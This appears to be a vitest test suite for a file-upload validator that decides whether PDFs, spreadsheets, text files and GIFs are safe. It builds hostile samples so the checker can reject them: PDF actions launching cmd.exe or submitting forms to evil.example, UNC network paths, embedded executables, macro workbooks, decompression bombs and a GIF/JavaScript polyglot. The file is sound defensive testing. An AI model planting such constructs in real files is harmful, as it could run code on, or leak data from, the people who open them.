import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { judgeBytes } from '@/lib/fileBytes';
import * as hostile from '../support/hostileFiles';

const judge = (bytes: Buffer, extension = 'pdf') => judgeBytes(new Uint8Array(bytes), extension);

describe('a PDF', () => {
  it.each([
    [['ASCII85Decode']],
    [['ASCIIHexDecode']],
    [['FlateDecode', 'FlateDecode']],
    [['ASCII85Decode', 'FlateDecode']],
    [['ASCIIHexDecode', 'ASCII85Decode', 'FlateDecode']],
    [['RunLengthDecode', 'FlateDecode']],
  ] as const)('is rejected with a script in an object stream behind %j', async filters =>
    expect(await judge(hostile.packedScript(filters))).toBe('scripted'),
  );

  it.each<[string, () => Buffer, string]>([
    ['in objects that do not say they are', () => hostile.packedScript(['FlateDecode'], ''), 'scripted'],
    ['in a former revision', hostile.scriptOfFormerRevision, 'scripted'],
    ['within a picture', hostile.scriptWithinStream, 'scripted'],
    ['in objects that we cannot read', hostile.unreadableObjects, 'damaged'],
    [
      'behind a name of its own',
      () => hostile.toPdf('/OpenAction << /S 4 0 R /JS 5 0 R >>', ['/JavaScript', '(x)']),
      'scripted',
    ],
    ['under the first of two names', () => hostile.toPdf('/OpenAction << /S /JavaScript /S /GoTo >>'), 'scripted'],
    ['in an object without an end', () => hostile.toPdf('', ['<< /S /JavaScript /JS (x) /Bad @@']), 'scripted'],
    [
      'in a form of the dynamic kind',
      () => hostile.toPdf('/AcroForm << /Fields [] /XFA 4 0 R >>', ['(<xdp/>)']),
      'scripted',
    ],
    [
      'in a trailer',
      () =>
        Buffer.from(
          hostile.toPdf('').toString('latin1').replace('/Root 1 0 R', '/Root << /OpenAction << /S 4 0 R /JS (x) >> >>'),
          'latin1',
        ),
      'scripted',
    ],
  ])('is rejected with a script %s', async (_, make, verdict) => expect(await judge(make())).toBe(verdict));

  it.each<[string, () => Buffer, string]>([
    ['starts a program', () => hostile.toPdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 'scripted'],
    ['sends a form', () => hostile.toPdf('/OpenAction << /S /SubmitForm /F (https://evil.example) >>'), 'sending'],
    ['fetches data', () => hostile.toPdf('/OpenAction << /S /ImportData /F (a.fdf) >>'), 'sending'],
    [
      'goes to a network path',
      () => hostile.toPdf('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\a) /D [0 /Fit] >>'),
      'network',
    ],
    [
      'goes to a network path by its long name',
      () => hostile.toPdf('/OpenAction << /S /GoToR /F 4 0 R >>', ['<< /Type /Filespec /UF (//evil.example/a) >>']),
      'network',
    ],
    [
      'draws from a network path',
      () => hostile.toPdf('', ['<< /Length 0 /F << /FS /URL /F (http://evil.example/a) >> >>\nstream\n\nendstream']),
      'network',
    ],
    [
      'opens a file by a link',
      () => hostile.toPdf('/OpenAction << /S /URI /URI (file://evil.example/a) >>'),
      'network',
    ],
    ['plays media', () => hostile.toPdf('', ['<< /Type /Annot /Subtype /RichMedia >>']), 'media'],
    ['plays a rendition', () => hostile.toPdf('/OpenAction << /S /Rendition >>'), 'media'],
    ['carries a program', () => hostile.pdfWithFile('setup.exe', hostile.program), 'attached'],
    ['carries a program by another name', () => hostile.pdfWithFile('data.xml', hostile.program), 'attached'],
    ['carries a batch file', () => hostile.pdfWithFile('run.bat', Buffer.from('@echo off')), 'attached'],
    [
      'carries a PDF with a script',
      () => hostile.pdfWithFile('a.pdf', hostile.packedScript(['FlateDecode'])),
      'attached',
    ],
    ['has program bytes before it', () => hostile.toPdf('', [], 'MZ\x90\0'), 'other'],
    ['has a shell script before it', () => hostile.toPdf('', [], '#!/bin/sh\n'), 'other'],
    [
      'is an archive to whoever reads from its end',
      () => Buffer.concat([hostile.toPdf(''), hostile.workbookWith({})]),
      'other',
    ],
    ['swells', () => hostile.swellingPdf(276), 'bomb'],
    ['swells in two steps', () => hostile.swellingPdf(276, ['FlateDecode', 'FlateDecode']), 'bomb'],
  ])('is rejected if it %s', async (_, make, verdict) => expect(await judge(make())).toBe(verdict));

  it.each<[string, () => Buffer | Promise<Buffer>]>([
    ['with a link to the web', () => hostile.toPdf('/OpenAction << /S /URI /URI (https://buyer.example) >>')],
    ['that goes to a file beside it', () => hostile.toPdf('/OpenAction << /S /GoToR /F (annexure.pdf) /D [0 /Fit] >>')],
    [
      'that carries its data as XML',
      () => hostile.pdfWithFile('factur-x.xml', Buffer.from('<?xml version="1.0"?><Invoice/>')),
    ],
    [
      'whose attached PDF is not compressed and has object streams',
      () => readFileSync('tests/lib/examples/uncompressed-attachment.pdf'),
    ],
    ['that carries another PDF', () => hostile.pdfWithFile('annexure.pdf', hostile.toPdf(''))],
    ['after a byte order mark', () => hostile.toPdf('', [], '\u00ef\u00bb\u00bf\r\n')],
    [
      'after the words of a printer',
      () => hostile.toPdf('', [], '\u001b%-12345X@PJL JOB\r\n@PJL ENTER LANGUAGE=PDF\r\n'),
    ],
    ['whose pages are long', () => hostile.swellingPage(276)],
    ['with a title that speaks of scripts', () => hostile.toPdf('/Title (about /Launch and /JavaScript)')],
    ['that everybody may open but not change', () => hostile.encryptedPdf('')],
  ])('%s is accepted', async (_, make) => expect(['match', 'protected']).toContain(await judge(await make())));

  it("is checked if encrypted, and rejected if it can't be decrypted", async () => {
    const scripted = await hostile.encryptedPdf('', document => document.addJavaScript('hello', 'app.alert("hello")'));
    expect(await judge(scripted)).toBe('scripted');
    expect(await judge(await hostile.encryptedPdf('secret'))).toBe('locked');
  });
});

describe('a workbook', () => {
  it.each<[string, () => Buffer, string]>([
    ['with macros', () => hostile.workbookWith({ 'xl/vbaProject.bin': 'x' }), 'macros'],
    [
      'with macros under another name',
      () =>
        hostile.workbookWith(
          { 'xl/data.bin': 'x' },
          '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
      'macros',
    ],
    ['with macros of the old kind', () => hostile.workbookWith({ 'xl/macrosheets/sheet1.xml': '<x/>' }), 'macros'],
    ['with a control', () => hostile.workbookWith({ 'xl/activeX/activeX1.xml': '<x/>' }), 'macros'],
    [
      'with an object that holds a program',
      () => hostile.workbookWith({ 'xl/embeddings/oleObject1.bin': hostile.program }),
      'attached',
    ],
    [
      'with an object outside the folder of objects',
      () =>
        hostile.workbookWith(
          { 'xl/other/object1.bin': hostile.program },
          '<Override PartName="/xl/other/object1.bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
        ),
      'attached',
    ],
    [
      'with a workbook that has macros',
      () => hostile.workbookWith({ 'xl/embeddings/a.xlsx': hostile.workbookWith({ 'xl/vbaProject.bin': 'x' }) }),
      'attached',
    ],
    [
      'whose types are spelled letter by letter',
      () =>
        hostile.workbookWith({}, '<Default Extension="bin" ContentType="application/vnd.ms-office.&#118;baProject"/>'),
      'other',
    ],
    ['that swells', hostile.swellingWorkbook, 'bomb'],
  ])('%s is rejected', async (_, make, verdict) => expect(await judge(make(), 'xlsx')).toBe(verdict));

  it.each<[string, () => Buffer]>([
    [
      'with the settings of a printer',
      () =>
        hostile.workbookWith(
          { 'xl/printerSettings/printerSettings1.bin': 'x' },
          '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"/>',
        ),
    ],
    ['with a workbook in it', () => hostile.workbookWith({ 'xl/embeddings/a.xlsx': hostile.workbookWith({}) })],
    [
      'with a workbook in capitals in it',
      () => hostile.workbookWith({ 'xl/embeddings/A.XLSX': hostile.workbookWith({}) }),
    ],
    ['of many rows', () => hostile.workbookWith({ 'xl/worksheets/sheet1.xml': new Uint8Array(100_000_000).fill(32) })],
  ])('%s is accepted', async (_, make) => expect(await judge(make(), 'xlsx')).toBe('match'));
});

describe('text', () => {
  const mail = 'From: a@example.com\r\nSubject: Invoice\r\n\r\nHello';
  it.each<[string, Buffer, string]>([
    ['a table in UTF-16BE', Buffer.from('\uFEFFItem;Amount', 'utf16le').swap16(), 'csv'],
    ['a table in UTF-16LE', Buffer.from('\uFEFFItem;Amount', 'utf16le'), 'csv'],
    ['a mail with a byte order mark', Buffer.from(`\uFEFF${mail}`), 'eml'],
    ['a mail out of a mailbox', Buffer.from(`From a@example.com Sat Nov 21 10:00:00 2026\r\n${mail}`), 'eml'],
    [
      'a mail out of a mailbox of a Unix',
      Buffer.from(`>From a@example.com Sat Nov 21\n${mail.replaceAll('\r', '')}`),
      'eml',
    ],
  ])('%s is accepted', async (_, bytes, extension) => expect(await judge(bytes, extension)).toBe('match'));

  it.each<[string, Buffer, string]>([
    ['a page in UTF-16BE', Buffer.from('\uFEFF<html><p>', 'utf16le').swap16(), 'csv'],
    ['a page after a byte order mark', Buffer.from('\uFEFF<html><p>'), 'csv'],
    ['a mailbox mark and a page', Buffer.from('From a@example.com\r\n<html>'), 'eml'],
  ])('%s is rejected', async (_, bytes, extension) => expect(await judge(bytes, extension)).toBe('other'));
});

describe('a GIF', () => {
  const picture = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');
  it.each<[string, Buffer]>([
    ['that is whole', picture],
    ['that was cut off', picture.subarray(0, 36)],
  ])('%s is accepted', async (_, bytes) => expect(await judge(bytes, 'gif')).toBe('match'));

  it.each<[string, Buffer]>([
    ['that is a script in truth', Buffer.from('GIF89a=1;alert(document.domain)//')],
    ['with a page behind it', Buffer.concat([picture, Buffer.from('<html><script>alert(1)</script>')])],
    ['that ends as an archive', Buffer.concat([picture, Buffer.from('504b0506', 'hex'), Buffer.alloc(18)])],
  ])('%s is rejected', async (_, bytes) => expect(await judge(bytes, 'gif')).toBe('other'));
});
